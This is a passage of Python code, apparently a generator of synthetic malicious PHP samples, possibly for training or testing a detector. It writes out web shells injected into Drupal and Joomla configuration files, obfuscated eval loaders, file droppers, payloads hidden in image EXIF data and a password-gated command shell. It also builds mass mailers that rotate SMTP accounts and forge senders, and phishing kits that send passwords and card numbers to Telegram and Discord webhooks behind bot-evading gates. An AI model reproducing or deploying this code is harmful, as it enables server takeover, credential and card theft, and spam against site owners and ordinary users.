        body = ("/**\n * Implements hook_init().\n */\nfunction %s_init() {\n  if (!empty($_POST['%s'])) {\n"
                "    $f = 'ass' . 'ert';\n    @$f(stripslashes($_POST['%s']));\n  }\n}\n" % (key, key, key))
        return [("sites/all/modules/%s/%s.module" % (key, key), "<?php\n" + body, "php")]
    if k == 2:
        host = ("<?php\nclass JConfig {\n\tpublic $offline = '0';\n\tpublic $sitename = 'Site';\n\tpublic $dbtype = 'mysqli';\n"
                "\tpublic $host = 'localhost';\n\tpublic $user = 'jos';\n\tpublic $password = '%s';\n\tpublic $db = 'jos';\n"
                "\tpublic $dbprefix = 'jos_';\n}\n" % rword(r, 10))
        inj = "if (isset($_REQUEST['%s'])) { @system($_REQUEST['%s']); }\n" % (key, key)
        return [("configuration.php", host + inj, "php")]
    host = ("<?php\n$databases['default']['default'] = array(\n  'database' => 'drupal',\n  'username' => 'drupal',\n"
            "  'password' => '%s',\n  'host' => 'localhost',\n  'driver' => 'mysql',\n);\n$settings['hash_salt'] = '%s';\n"
            % (rword(r, 10), rword(r, 32)))
    inj = "$_x = @$_COOKIE['%s']; if ($_x) { $_f = @create_function('', base64_decode($_x)); @$_f(); }\n" % key
    return [("sites/default/settings.php", host + inj, "php")]


def ws_packer(r, S):
    """Obfuscator styles: names cut out of one urldecoded alphabet ($O0O0O
    style), or the payload after __halt_compiler() read back from __FILE__."""
    k = r.randint(0, 1)
    code = core(r)
    if k == 0:
        al = list("abcdefghijklmnopqrstuvwxyz_0123456789")
        r.shuffle(al)
        al = "".join(al)
        ua = "".join("%%%02X" % ord(c) if r.random() < 0.6 else c for c in al)
        v = "$O" + "".join(r.choice("O0") for _ in range(5))

        def cut(word):
            return ".".join("%s{%d}" % (v, al.index(c)) if r.random() < 0.5 else "%s[%d]" % (v, al.index(c)) for c in word)
        names = {}
        lines = ["%s = urldecode(%s);" % (v, sq(ua))]
        for f in ("base64_decode", "gzinflate"):
            n = "$O" + "".join(r.choice("O0") for _ in range(6))
            lines.append("%s = %s;" % (n, cut(f).replace("{", "[").replace("}", "]")))
            names[f] = n
        b = base64.b64encode(_deflate(code.encode())).decode()
        lines.append("eval(%s(%s(%s)));" % (names["gzinflate"], names["base64_decode"], sq(b)))
        return "\n".join(lines)
    b = base64.b64encode(_deflate(code.encode())).decode()
    off = S.var()
    return ("%s = %s(%s(__FILE__), __COMPILER_HALT_OFFSET__);\neval(%s(%s(%s)));\n__halt_compiler();%s" % (
        off, S.fn("substr"), S.fn("file_get_contents"), S.fn("gzinflate"), S.fn("base64_decode"), off, b))


def ws_file_writer(r, S):
    """Small droppers that write what the request carries: copy of
    php://input, SplFileObject, fputs(fopen()), a tmp_name include."""
    k = r.randint(0, 4)
    n = r.choice(("$_GET['n']", "$_SERVER['DOCUMENT_ROOT'] . '/' . $_GET['f']", "__DIR__ . '/' . basename($_POST['name'])"))
    if k == 0:
        return "@copy('php://input', %s);\necho 'ok';" % n
    if k == 1:
        return "$o = new SplFileObject(%s, 'w');\n$o->fwrite(%s($_POST['c']));" % (n, S.fn("base64_decode"))
    if k == 2:
        return "@%s(%s(%s, 'w'), %s);" % (S.fn("fputs"), S.fn("fopen"), n, php_in(r, S))
    if k == 3:
        return "if (!empty($_FILES['f']['tmp_name'])) { include $_FILES['f']['tmp_name']; }"
    return "$t = %s('php://input');\nif (strlen($t) > 10) { file_put_contents(%s, gzinflate($t)); }" % (S.fn("file_get_contents"), n)


def ws_exif_payload(r, S):
    """The payload in an image's EXIF/comment, run by a loader
    (exif_read_data / getimagesize APP segment / preg_replace /e of fields)."""
    code = core(r)
    b = base64.b64encode(code.encode()).decode()
    img = "wp-content/uploads/%d/%02d/IMG_%04d.jpg" % (r.randint(2019, 2025), r.randint(1, 12), r.randint(1, 9999))
    k = r.randint(0, 2)
    name = img.split("/")[-1]
    if k == 0:
        ld = "$e = @exif_read_data(__DIR__ . '/%s');\nif (!empty($e['COMMENT'][0])) { eval(base64_decode($e['COMMENT'][0])); }" % name
    elif k == 1:
        ld = ("$i = array(); @getimagesize(__DIR__ . '/%s', $i);\nforeach ($i as $seg) { if (strpos($seg, 'X:') === 0) "
              "{ eval(base64_decode(substr($seg, 2))); } }" % name)
    else:
        ld = "$e = @exif_read_data(__DIR__ . '/%s');\n@preg_replace($e['Make'], $e['Model'], '');" % name
    return [(img, _jpeg_with(r, ("X:" if k == 1 else "") + b), "data"),
            (img.rsplit("/", 1)[0] + "/" + r.choice(("thumb.php", "index.php", "image-meta.php")), "<?php\n" + ld + "\n", "php")]


def ws_basic_auth_shell(r, S):
    """A command shell behind HTTP Basic auth or a user-agent key, with a
    minimal form."""
    pw = rword(r, 10)
    k = r.randint(0, 1)
    gate = ("if (!isset($_SERVER['PHP_AUTH_PW']) || md5($_SERVER['PHP_AUTH_PW']) !== '%s') {\n"
            "  header('WWW-Authenticate: Basic realm=\"Restricted\"'); header('HTTP/1.0 401 Unauthorized'); exit;\n}"
            % hashlib_md5(pw)) if k == 0 else (
        "if (strpos($_SERVER['HTTP_USER_AGENT'] ?? '', '%s') === false) { http_response_code(404); exit; }" % pw)
    return S.lines([gate, "echo '<form method=post><input name=c size=80><input type=submit></form><pre>';"]
                   + _run_cmd(r, S, "$_POST['c'] ?? 'id'") + ["echo '</pre>';"])


def hashlib_md5(s):
    import hashlib
    return hashlib.md5(s.encode()).hexdigest()


# ---------------------------------------------------------------------------
# mailers


def _recips(r, S):
    return r.choice(("file(__DIR__ . '/list.txt', FILE_IGNORE_NEW_LINES)", "explode(\"\\n\", $_POST['emails'])",
                     "file($_FILES['maillist']['tmp_name'])", "preg_split('/[\\r\\n,;]+/', $_POST['to'])"))


def ml_smtp_rotation(r, S):
    """Bulk sender that rotates SMTP accounts (a list of host|user|pass) and
    switches to the next on failure or every N mails."""
    n = r.randint(20, 200)
    return S.lines([
        "require 'PHPMailer/PHPMailerAutoload.php';",
        "$smtps = array_filter(array_map('trim', %s));" % r.choice(("file(__DIR__ . '/smtp.txt')", "explode(\"\\n\", $_POST['smtps'])")),
        "$list = %s;" % _recips(r, S),
        "$i = 0; $s = 0;",
        "foreach ($list as $to) {",
        "  if ($i++ %% %d == 0) { $s = ($s + 1) %% count($smtps); }" % n,
        "  list($h, $p, $u, $pw) = explode('|', $smtps[$s]);",
        "  $m = new PHPMailer(); $m->isSMTP(); $m->Host = $h; $m->Port = $p; $m->SMTPAuth = true;",
        "  $m->Username = $u; $m->Password = $pw; $m->setFrom($u, $_POST['name']);",
        "  $m->addAddress(trim($to)); $m->Subject = $_POST['subject']; $m->msgHTML($_POST['letter']);",
        "  if (!$m->send()) { $s = ($s + 1) % count($smtps); echo 'rotate '; }",
        "  echo htmlspecialchars($to) . '<br>'; flush();", "}"])


def ml_fsock_587(r, S):
    """Raw SMTP over fsockopen to 587 with STARTTLS and AUTH LOGIN, in a loop."""
    return S.lines([
        "function rd($s) { $d = ''; while ($l = fgets($s, 515)) { $d .= $l; if (substr($l, 3, 1) == ' ') break; } return $d; }",
        "function wr($s, $c) { fputs($s, $c . \"\\r\\n\"); return rd($s); }",
        "$h = %s; $u = %s; $p = %s;" % ("$_POST['host']", "$_POST['user']", "$_POST['pass']"),
        "foreach (%s as $to) {" % _recips(r, S),
        "  $s = @fsockopen($h, 587, $en, $es, 15); if (!$s) continue; rd($s);",
        "  wr($s, 'EHLO ' . gethostname()); wr($s, 'STARTTLS');",
        "  stream_socket_enable_crypto($s, true, STREAM_CRYPTO_METHOD_TLS_CLIENT); wr($s, 'EHLO ' . gethostname());",
        "  wr($s, 'AUTH LOGIN'); wr($s, base64_encode($u)); wr($s, base64_encode($p));",
        "  wr($s, \"MAIL FROM:<$u>\"); wr($s, 'RCPT TO:<' . trim($to) . '>'); wr($s, 'DATA');",
        "  wr($s, \"From: {$_POST['fromname']} <$u>\\r\\nTo: $to\\r\\nSubject: {$_POST['subj']}\\r\\nContent-Type: text/html\\r\\n\\r\\n{$_POST['body']}\\r\\n.\");",
        "  wr($s, 'QUIT'); fclose($s);", "}"])


def ml_sleep_batches(r, S):
    """Spreads sending over sleep()'d batches, continues when the client
    leaves, with spintax and per-recipient placeholders."""
    b = r.randint(5, 50)
    return S.lines([
        "ignore_user_abort(true); set_time_limit(0);",
        "function spin($t) { return preg_replace_callback('/\\{([^{}]+)\\}/', function ($m) { $o = explode('|', $m[1]); return $o[array_rand($o)]; }, $t); }",
        "$list = %s;" % _recips(r, S), "$batch = %d; $n = 0;" % b,
        "foreach (array_chunk($list, $batch) as $chunk) {",
        "  foreach ($chunk as $to) {",
        "    $to = trim($to); $msg = str_replace(array('%email%', '%rand%'), array($to, mt_rand()), spin($_POST['msg']));",
        "    $hd = 'From: ' . spin($_POST['from']) . \"\\r\\nContent-type: text/html\\r\\n\";",
        "    if (@%s($to, spin($_POST['subject']), $msg, $hd)) { $n++; }" % S.fn(r.choice(("mail", "mb_send_mail"))),
        "  }", "  file_put_contents(__DIR__ . '/.progress', $n);",
        "  sleep(%d);" % r.randint(2, 60), "}"])


def ml_sendmail_pipe(r, S):
    """Writes each message straight into sendmail -t via popen/proc_open
    (bypassing mail()), with a forged envelope sender."""
    return S.lines([
        "foreach (%s as $to) {" % _recips(r, S),
        "  $p = %s('/usr/sbin/sendmail -t -i -f ' . escapeshellarg($_POST['from']), 'w');" % S.fn("popen"),
        "  fputs($p, 'To: ' . trim($to) . \"\\n\");",
        "  fputs($p, 'From: ' . $_POST['fromname'] . ' <' . $_POST['from'] . \">\\n\");",
        "  fputs($p, 'Subject: ' . $_POST['subject'] . \"\\nMIME-Version: 1.0\\nContent-Type: text/html\\n\\n\");",
        "  fputs($p, $_POST['body']);", "  pclose($p);", "}", "echo 'sent';"])


def ml_wp_nopriv(r, S):
    """A mailer hidden as a WordPress AJAX action open to visitors, sending
    wp_mail() to a posted list."""
    a = rword(r, 6)
    return ("add_action('wp_ajax_nopriv_%s', function () {\n  $l = preg_split('/\\s+/', wp_unslash($_POST['l']));\n"
            "  $h = array('Content-Type: text/html; charset=UTF-8', 'From: ' . wp_unslash($_POST['f']));\n  $c = 0;\n"
            "  foreach ($l as $to) { if (is_email($to) && wp_mail($to, wp_unslash($_POST['s']), wp_unslash($_POST['b']), $h)) { $c++; } }\n"
            "  wp_send_json(array('sent' => $c));\n});" % a)


def ml_attachment_bulk(r, S):
    """Builds multipart MIME with a posted attachment by hand and sends it to
    each address of an uploaded list; reports the count to a check address."""
    return S.lines([
        "$bd = md5(uniqid());",
        "$att = chunk_split(base64_encode(file_get_contents($_FILES['att']['tmp_name'])));",
        "$hd = \"From: {$_POST['from']}\\r\\nMIME-Version: 1.0\\r\\nContent-Type: multipart/mixed; boundary=\\\"$bd\\\"\\r\\n\";",
        "$body = \"--$bd\\r\\nContent-Type: text/html; charset=utf-8\\r\\n\\r\\n{$_POST['html']}\\r\\n--$bd\\r\\n\"",
        "  . \"Content-Type: application/octet-stream; name=\\\"{$_FILES['att']['name']}\\\"\\r\\nContent-Transfer-Encoding: base64\\r\\n\"",
        "  . \"Content-Disposition: attachment\\r\\n\\r\\n$att\\r\\n--$bd--\";",
        "$ok = 0;", "foreach (file($_FILES['list']['tmp_name']) as $to) { if (mail(trim($to), $_POST['subject'], $body, $hd)) $ok++; }",
        "@mail('%s@example.com', 'report ' . $_SERVER['HTTP_HOST'], \"$ok sent from \" . $_SERVER['SCRIPT_URI']);" % rword(r, 6)])


def ml_encoded(r, S):
    """A mass mailer under one or two layers."""
    inner = ("foreach (explode(\"\\n\", $_POST['l']) as $t) { @mail(trim($t), $_POST['s'], $_POST['m'], 'From: ' . $_POST['f']); } "
             "echo 'done';")
    return layers(r, S, inner, r.randint(1, 2))


# ---------------------------------------------------------------------------
# phishing kits


def _tg(r):
    return "%d:%s" % (r.randint(100000000, 999999999), rword(r, 35, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"))


def ph_session_steps(r, S):
    """A multi-step kit: login, then card, then OTP, the answers kept in
    $_SESSION and sent at each step."""
    tok, chat = _tg(r), str(r.randint(-1009999999999, -1000000000000))
    step = r.choice(("login", "card", "otp"))
    send = r.choice((
        "file_get_contents('https://api.telegram.org/bot%s/sendMessage?chat_id=%s&text=' . urlencode($msg));" % (tok, chat),
        "mail('%s@example.com', 'Rezult ' . $_SERVER['REMOTE_ADDR'], $msg);" % rword(r, 6),
        "file_put_contents(__DIR__ . '/../rz/.%s.txt', $msg . \"\\n\", FILE_APPEND);" % hexname(r, 6)))
    fields = {"login": ("email", "password"), "card": ("ccnum", "exp", "cvv", "holder"), "otp": ("otp",)}[step]
    nxt = {"login": "card.php", "card": "otp.php", "otp": "https://www.example.com/"}[step]
    lines = ["session_start();"]
    for f in fields:
        lines.append("$_SESSION['%s'] = $_POST['%s'] ?? '';" % (f, f))
    lines += ["$ip = $_SERVER['REMOTE_ADDR'];",
              "$msg = \"== %s ==\\n\";" % step.upper(),
              "foreach ($_SESSION as $k => $v) { $msg .= \"$k: $v\\n\"; }",
              "$msg .= \"IP: $ip\\nUA: \" . $_SERVER['HTTP_USER_AGENT'];", send,
              "header('Location: %s');" % nxt, "exit;"]
    return [("%s/%s.php" % (r.choice(("secure", "verify", "account-update", "id")), {"login": "login_post", "card": "card_post",
                                                                                   "otp": "otp_post"}[step]),
             "<?php\n" + S.lines(lines) + "\n", "php")]


def ph_tg_get(r, S):
    """Credentials exfiltrated by a GET to the Telegram Bot API built with
    http_build_query, fallback to curl."""
    tok = _tg(r)
    return S.lines([
        "$data = array('chat_id' => '%d', 'parse_mode' => 'HTML', 'text' => \"<b>Login</b>\\nUser: {$_POST['u']}\\nPass: {$_POST['p']}\\nIP: {$_SERVER['REMOTE_ADDR']}\");" % r.randint(100000, 9999999999),
        "$url = 'https://api.telegram.org/bot%s/sendMessage?' . http_build_query($data);" % tok,
        "if (!@file_get_contents($url)) { $c = curl_init($url); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); curl_exec($c); }",
        "header('Location: https://login.example.com/?error=1');"])


def ph_discord_webhook(r, S):
    """Card data posted as JSON to a Discord/Slack-style webhook with curl."""
    hook = r.choice(("https://discord.example.com/api/webhooks/%d/%s" % (r.randint(10**17, 10**18), rword(r, 60)),
                     "https://hooks.slack.example.com/services/T%s/B%s/%s" % (rword(r, 8).upper(), rword(r, 8).upper(), rword(r, 24))))
    return S.lines([
        "$p = array('content' => sprintf(\"CC: %s | %s/%s | CVV %s | %s\", $_POST['cc'], $_POST['mm'], $_POST['yy'], $_POST['cvv'], $_SERVER['REMOTE_ADDR']));",
        "$ch = curl_init(%s);" % sq(hook),
        "curl_setopt_array($ch, array(CURLOPT_POST => 1, CURLOPT_HTTPHEADER => array('Content-Type: application/json'),",
        "  CURLOPT_POSTFIELDS => json_encode($p), CURLOPT_RETURNTRANSFER => 1));",
        "curl_exec($ch);", "header('Location: ./success.html');"])


def ph_blocklist_gate(r, S):
    """A kit's gate: IP and user-agent blocklists read from .txt, a lookup of
    the visitor's ISP, a one-time link, then the clone is shown."""
    return [("account/blocker/ips.txt", "\n".join("198.51.100.%d" % r.randint(1, 254) for _ in range(8)) + "\n66.249.\n", "data"),
            ("account/index.php", "<?php\n" + S.lines([
                "$ip = $_SERVER['REMOTE_ADDR'];",
                "foreach (file(__DIR__ . '/blocker/ips.txt', FILE_IGNORE_NEW_LINES) as $b) { if ($b && strpos($ip, $b) === 0) { header('Location: https://www.example.com/'); exit; } }",
                "if (preg_match('/bot|crawl|spider|curl|python|phish|netcraft|google/i', $_SERVER['HTTP_USER_AGENT'])) { http_response_code(404); exit; }",
                "$geo = @json_decode(file_get_contents('http://ip-api.example.com/json/' . $ip), true);",
                "if (isset($geo['isp']) && preg_match('/amazon|microsoft|google|digitalocean|ovh/i', $geo['isp'])) { exit('Not Found'); }",
                "$seen = __DIR__ . '/blocker/visited.txt';",
                "if (strpos(@file_get_contents($seen), $ip) !== false) { header('Location: https://www.example.com/'); exit; }",
                "file_put_contents($seen, $ip . \"\\n\", FILE_APPEND);",
                "$d = substr(md5(mt_rand()), 0, 10); @mkdir(__DIR__ . '/' . $d); @copy(__DIR__ . '/page.html', __DIR__ . \"/$d/index.html\");",
                "header(\"Location: $d/index.html?email=\" . urlencode($_GET['e'] ?? ''));"]) + "\n", "php")]


def ph_html_form(r, S):
    """An HTML-only login clone whose form posts (or whose script fetch()es)
    the password to another host."""
    brand = r.choice(("Microsoft 365", "Webmail", "Dropbox Business", "DocuSign", "Adobe Document Cloud"))
    tgt = "https://%s/%s" % (r.choice(("collect.example.net", "198.51.100.77", "forms.example.org")), r.choice(("post.php", "l/r", "a.php")))
    k = r.randint(0, 1)
    if k == 0:
        form = '<form method="POST" action="%s">' % tgt
        js = ""
    else:
        form = '<form id="f" onsubmit="return go()">'
        js = ("<script>function go(){var d=new FormData(document.getElementById('f'));fetch('%s',{method:'POST',body:d,mode:'no-cors'})"
              ".then(function(){location.href='https://login.example.com/';});return false;}</script>" % tgt)
    html = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Sign in to %s</title></head><body>\n"
            "<div class=\"box\"><h2>%s</h2><p>Your session has expired. Confirm your password to view the shared document.</p>\n"
            "%s<input type=\"email\" name=\"login\" placeholder=\"Email\"><input type=\"password\" name=\"passwd\" placeholder=\"Password\">"
            "<button type=\"submit\">Sign in</button></form></div>%s</body></html>\n" % (brand, brand, form, js))
    return [("%s/%s" % (r.choice(("docs", "share", "onedrive", "sign")), r.choice(("index.html", "view.htm", "login.html"))), html, "html")]


def ph_bin_lookup(r, S):
    """Card step that checks Luhn, looks up the BIN and sends everything by
    mail and to a hidden file."""
    return S.lines([
        "function luhn($n) { $s = 0; $a = strrev(preg_replace('/\\D/', '', $n)); for ($i = 0; $i < strlen($a); $i++) { $d = (int) $a[$i]; if ($i % 2) { $d *= 2; if ($d > 9) $d -= 9; } $s += $d; } return $s % 10 == 0; }",
        "$cc = $_POST['cardnumber'];", "if (!luhn($cc)) { header('Location: card.php?invalid=1'); exit; }",
        "$bin = @json_decode(file_get_contents('https://lookup.example.net/' . substr($cc, 0, 6)), true);",
        "$m = \"Card: $cc\\nExp: {$_POST['exp']}\\nCVV: {$_POST['cvv']}\\nBank: \" . ($bin['bank']['name'] ?? '?') . \"\\nIP: {$_SERVER['REMOTE_ADDR']}\\n\";",
        "@mail('%s@example.org', 'CC ' . substr($cc, 0, 6), $m);" % rword(r, 7),
        "@file_put_contents(__DIR__ . '/.htlog', $m, FILE_APPEND);",
        "header('Location: otp.php');"])
